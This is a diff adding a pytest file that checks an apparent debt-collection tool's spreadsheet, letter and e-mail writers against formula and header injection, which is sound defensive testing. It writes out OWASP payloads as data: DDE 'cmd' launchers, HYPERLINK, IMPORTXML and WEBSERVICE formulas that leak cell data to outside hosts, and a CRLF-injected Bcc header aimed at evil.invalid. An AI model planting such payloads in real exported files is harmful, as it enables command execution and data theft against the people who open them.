@@ -1,0 +1,223 @@
+"""Formula injection: data that looks like a formula is written as text by every writer.
+
+Payloads are OWASP's "CSV Injection" examples (the DDE ``cmd`` launcher, the HYPERLINK
+exfiltration formula, each trigger character: ``=``, ``+``, ``-``, ``@``, tab, carriage
+return, and the quote/separator-breaking variants), plus the sample data's own hostile
+names. Writers covered: FileBook (openpyxl) write_table / append_rows / write_value, the
+XlsxWriter detail writer (workbooks/fastio.py), dunning letters (.docx) and e-mail drafts
+(.eml), creditor proposals (.docx), and the demo outputs as written and as LibreOffice
+recalculates them. DebtDesk writes no CSV files (guarded by test_no_csv_writer_exists).
+"""
+
+from __future__ import annotations
+
+import email
+import re
+import sys
+import zipfile
+from pathlib import Path
+
+import docx
+import openpyxl
+import pandas as pd
+import pytest
+
+from debtdesk.macros.book import TableSpec
+from debtdesk.workbooks.cells import looks_like_formula
+from debtdesk.workbooks.fastio import write_detail
+from debtdesk.workbooks.filebook import FileBook
+from debtdesk.workbooks.letters import write_email, write_letter
+
+sys.path.insert(0, str(Path(__file__).parent))
+from conftest import require_libreoffice  # noqa: E402
+from libreoffice import recalculate  # noqa: E402
+
+HYPERLINK_NAME = '=HYPERLINK("http://example.invalid","Sam O\'Neil")'
+OWASP = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=1+2\";=1+2",
+    "=1+2'\" ;,=1+2",
+    "\t=1+1",
+    "\r=1+1",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    "=IMPORTXML(CONCAT(\"http://x.invalid?v=\",CONCATENATE(A2:E2)),\"//a\")",
+    "=WEBSERVICE(\"http://x.invalid/?\"&A1)",
+]
+SAMPLE = ["=1+1", "@Iris Salon", HYPERLINK_NAME, "=1+1 Formula Road, Testtown TT1 1TT"]
+PAYLOADS = OWASP + SAMPLE
+BENIGN = ["Acme Plumbing Ltd", "Sam O'Neil", "1-30", "91+", " =1+1"]
+
+
+def test_every_payload_is_recognised_and_plain_names_are_not():
+    assert all(looks_like_formula(p) for p in PAYLOADS)
+    assert not any(looks_like_formula(b) for b in BENIGN)
+
+
+def _sheet_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+
+
+def _formulas(path: Path) -> list[str]:
+    return re.findall(r"<f[^>]*>(.*?)</f>", _sheet_xml(path))
+
+
+def _assert_text_cells(ws, cells, expected):
+    for cell, payload in zip(cells, expected):
+        assert cell.value == payload and cell.data_type == "s", (cell.coordinate, cell.value)
+        assert cell.quotePrefix, f"{cell.coordinate} {payload!r} has no quote prefix: editing it would evaluate it"
+
+
+@pytest.fixture
+def written(tmp_path) -> Path:
+    """Every payload through each FileBook writing method, saved."""
+    book = FileBook()
+    frame = pd.DataFrame({"Customer": PAYLOADS, "Note": list(reversed(PAYLOADS)),
+                          "Amount": [float(i) for i in range(len(PAYLOADS))]})
+    book.write_table("Report", frame, TableSpec("Report", formats={"Amount": "money"}, totals={"Amount": "sum"}))
+    book.write_table("Log", frame.head(1), TableSpec("Log"))
+    book.append_rows("Log", [{"Customer": p, "Note": p, "Amount": 1.0} for p in PAYLOADS])
+    for i, payload in enumerate(PAYLOADS, 1):
+        book.write_value("Values", f"A{i}", payload)
+    return book.save(tmp_path / "written.xlsx")
+
+
+def test_filebook_writes_payloads_as_quoted_text(written):
+    wb = openpyxl.load_workbook(written)
+    rows = len(PAYLOADS)
+    _assert_text_cells(wb["Report"], [wb["Report"][f"A{r}"] for r in range(2, rows + 2)], PAYLOADS)
+    _assert_text_cells(wb["Report"], [wb["Report"][f"B{r}"] for r in range(2, rows + 2)], list(reversed(PAYLOADS)))
+    _assert_text_cells(wb["Log"], [wb["Log"][f"A{r}"] for r in range(3, rows + 3)], PAYLOADS)
+    _assert_text_cells(wb["Values"], [wb["Values"][f"A{r}"] for r in range(1, rows + 1)], PAYLOADS)
+    # The only formula is the native totals row written by code.
+    assert _formulas(written) == [f"SUM(C2:C{len(PAYLOADS) + 1})"]
+
+
+def test_libreoffice_does_not_evaluate_filebook_payloads(written, tmp_path):
+    require_libreoffice()
+    copy = recalculate([written], tmp_path / "lo")[written]
+    wb = openpyxl.load_workbook(copy, data_only=True)
+    assert [wb["Values"][f"A{r}"].value for r in range(1, len(PAYLOADS) + 1)] == PAYLOADS
+    assert [wb["Report"][f"A{r}"].value for r in range(2, len(PAYLOADS) + 2)] == PAYLOADS
+
+
+def test_xlsxwriter_detail_writes_payloads_as_text(tmp_path):
+    frame = pd.DataFrame({"Customer": PAYLOADS, "Amount": [1.0] * len(PAYLOADS)})
+    out = write_detail(tmp_path / "detail.xlsx", frame, formats={"Amount": "money"})
+    ws = openpyxl.load_workbook(out)["Detail"]
+    for r, payload in enumerate(PAYLOADS, 2):
+        # XlsxWriter stores a carriage return as Excel's _x000D_ escape, which openpyxl leaves escaped
+        value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), ws[f"A{r}"].value)
+        assert value == payload and ws[f"A{r}"].data_type == "s"
+    assert _formulas(out) == []
+
+
+@pytest.mark.xfail(strict=True, reason="workbooks/fastio.write_detail stores formula-looking text as text but without "
+                                       "Excel's quote prefix, so a person who edits such a cell (F2, Enter) turns it "
+                                       "into a live formula; FileBook's put() sets quotePrefix")
+def test_xlsxwriter_detail_quotes_formula_looking_text(tmp_path):
+    frame = pd.DataFrame({"Customer": PAYLOADS})
+    ws = openpyxl.load_workbook(write_detail(tmp_path / "detail.xlsx", frame))["Detail"]
+    assert all(ws[f"A{r}"].quotePrefix for r in range(2, len(PAYLOADS) + 2))
+
+
+def test_email_drafts_keep_payloads_out_of_headers(tmp_path):
+    """CR/LF in data never starts a new header (no injected Bcc), and the text arrives as written."""
+    for i, payload in enumerate(PAYLOADS):
+        hostile = payload + "\r\nBcc: everyone@evil.invalid"
+        path = write_email(tmp_path / f"{i}.eml", f"Overdue: {hostile}", f"Dear {payload}\n\nPlease pay.",
+                           to=hostile, sender="collections@firm.example")
+        message = email.message_from_bytes(path.read_bytes())
+        assert message["Bcc"] is None
+        assert set(message.keys()) == {"Subject", "From", "To", "X-Unsent", "Content-Type",
+                                       "Content-Transfer-Encoding", "MIME-Version"}
+        unfold = lambda header: re.sub(r"\r?\n[ \t]", " ", header)  # noqa: E731  (RFC 5322 folding)
+        assert unfold(message["Subject"]).split() == f"Overdue: {hostile}".split()
+        assert not re.search(r"[\r\n]", unfold(message["To"]))  # one header, however the address parser quotes it
+        body = message.get_payload(decode=True).decode()
+        assert f"Dear {payload.strip()}" in body.replace("\r\n", "\n") or payload.startswith(("\t", "\r"))
+
+
+def _field_codes(path: Path) -> list[str]:
+    with zipfile.ZipFile(path) as z:
+        xml = z.read("word/document.xml").decode()
+    return re.findall(r"<w:(?:fldSimple|instrText|fldChar)\b", xml)
+
+
+def test_letters_hold_payloads_as_plain_text(tmp_path):
+    fields = {"customer": HYPERLINK_NAME, "address": "=1+1 Formula Road, Testtown TT1 1TT", "firm": "@Firm",
+              "as_of": "2026-11-01"}
+    body = "\n\n".join(OWASP)
+    path = write_letter(tmp_path / "letter.docx", "=cmd|' /C calc'!A0", body, fields)
+    text = [p.text for p in docx.Document(path).paragraphs]
+    assert HYPERLINK_NAME in text and "=1+1 Formula Road" in text and "=cmd|' /C calc'!A0" in text
+    assert all(p.strip() in text for p in OWASP if not p.startswith(("\t", "\r")))
+    assert _field_codes(path) == []  # no Word field (HYPERLINK, DDE) came from data
+
+
+def test_proposals_hold_a_hostile_creditor_name_as_text(tmp_path):
+    from debtdesk.proposals import proposals
+    from debtdesk.workbooks.proposals import write_proposal
+
+    debts = pd.DataFrame({"Name": [HYPERLINK_NAME, "=cmd|' /C calc'!A0"], "Type": ["Credit card", "Credit card"],
+                          "Balance": [900.0, 300.0]})
+    for i, proposal in enumerate(proposals(1500, 1200, debts, client="@Client", on="2026-11-01")):
+        path = write_proposal(proposal, tmp_path / f"{i}.docx")
+        text = "\n".join(p.text for p in docx.Document(path).paragraphs)
+        assert f"To: {debts['Name'][i]}" in text
+        assert _field_codes(path) == []
+
+
+# -- the demo outputs --------------------------------------------------------------------------
+def _demo_workbooks(demo_out: Path) -> list[Path]:
+    return sorted(demo_out.rglob("*.xlsx"))
+
+
+def test_demo_outputs_store_hostile_sample_names_as_quoted_text(demo_out):
+    seen: dict[str, int] = {p: 0 for p in SAMPLE}
+    for path in _demo_workbooks(demo_out):
+        wb = openpyxl.load_workbook(path)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    if cell.data_type == "f":
+                        assert str(cell.value).lstrip("=") not in {p.lstrip("=") for p in SAMPLE}, \
+                            f"{path.name}!{ws.title}!{cell.coordinate} evaluates sample data: {cell.value}"
+                    elif isinstance(cell.value, str) and looks_like_formula(cell.value):
+                        assert cell.data_type == "s" and cell.quotePrefix, \
+                            f"{path.name}!{ws.title}!{cell.coordinate} {cell.value!r} is not quoted text"
+                        if cell.value in seen:
+                            seen[cell.value] += 1
+    # Each hostile name really went through the writers (ledger, worklist, ageing, client name).
+    assert all(seen.values()), seen
+
+
+def test_libreoffice_shows_the_hostile_sample_names_not_their_results(recalculated, demo_out):
+    """After a full recalculation the cells still read "=1+1" and "@Iris Salon", never 2 or an error."""
+    found = set()
+    for name, copy in recalculated.items():
+        wb = openpyxl.load_workbook(copy, data_only=True)
+        original = openpyxl.load_workbook(next(p for p in _demo_workbooks(demo_out) if p.name == name))
+        for ws in original.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.data_type == "s" and cell.value in SAMPLE:
+                        assert wb[ws.title][cell.coordinate].value == cell.value, (name, ws.title, cell.coordinate)
+                        found.add(cell.value)
+    assert found >= {"=1+1", "@Iris Salon"}
+
+
+def test_no_csv_writer_exists():
+    """DebtDesk exports workbooks and documents, no CSV. A new CSV writer must add itself to this file's payload tests."""
+    root = Path(__file__).resolve().parents[1]
+    writers = []
+    for folder in ("debtdesk", "udfs", "macros", "workbooks", "addin"):
+        for source in (root / folder).rglob("*.py"):
+            text = source.read_text(encoding="utf-8")
+            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
+                writers.append(str(source.relative_to(root)))
+    assert writers == []
